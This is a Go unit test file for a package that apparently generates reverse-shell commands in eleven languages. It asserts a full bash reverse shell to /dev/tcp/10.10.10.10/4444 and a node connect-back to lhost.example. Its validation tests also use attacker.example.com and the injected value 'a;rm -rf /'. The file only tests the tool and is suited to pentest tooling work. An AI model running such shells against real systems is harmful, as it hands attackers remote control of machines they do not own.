package revshell

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestGenerate_Defaults(t *testing.T) {
	g := New(nil)
	assert.Equal(t, []string{
		"bash", "python", "python3", "php", "perl", "ruby",
		"nc", "ncat", "powershell", "java", "node",
	}, g.IDs())

	sh, err := g.Generate("bash", Listener{})
	require.NoError(t, err)
	assert.Equal(t, "bash -i >& /dev/tcp/10.10.10.10/4444 0>&1", sh.Command)
}

func TestGenerate_ReplacesEveryPlaceholder(t *testing.T) {
	g := New(nil)
	all, err := g.GenerateAll(Listener{IP: "192.168.0.5", Port: "9001"})
	require.NoError(t, err)
	require.Len(t, all, 11)
	for _, sh := range all {
		assert.NotContains(t, sh.Command, "{IP}", sh.ID)
		assert.NotContains(t, sh.Command, "{PORT}", sh.ID)
		assert.Contains(t, sh.Command, "9001", sh.ID)
	}

	node, err := g.Generate("NODE", Listener{IP: "lhost.example", Port: "1"})
	require.NoError(t, err)
	assert.Contains(t, node.Command, `client.connect(1, "lhost.example"`)
	assert.True(t, strings.Contains(node.Command, "\n"))
}

func TestNormalize(t *testing.T) {
	tests := []struct {
		name string
		in   Listener
		err  error
	}{
		{"ipv4", Listener{IP: "10.0.0.1", Port: "80"}, nil},
		{"ipv6", Listener{IP: "::1", Port: "65535"}, nil},
		{"hostname", Listener{IP: "attacker.example.com", Port: "443"}, nil},
		{"trailing space", Listener{IP: " 10.0.0.1 ", Port: " 80 "}, nil},
		{"port zero", Listener{IP: "10.0.0.1", Port: "0"}, ErrInvalidPort},
		{"port too high", Listener{IP: "10.0.0.1", Port: "65536"}, ErrInvalidPort},
		{"port text", Listener{IP: "10.0.0.1", Port: "http"}, ErrInvalidPort},
		{"shell metachar", Listener{IP: "a;rm -rf /", Port: "1"}, ErrInvalidHost},
		{"label too long", Listener{IP: strings.Repeat("a", 64) + ".com", Port: "1"}, ErrInvalidHost},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := tt.in.Normalize()
			if tt.err == nil {
				assert.NoError(t, err)
				return
			}
			assert.ErrorIs(t, err, tt.err)
		})
	}
}

func TestGenerate_Unknown(t *testing.T) {
	_, err := New(nil).Generate("cobol", Listener{})
	assert.ErrorIs(t, err, ErrUnknownShell)
}
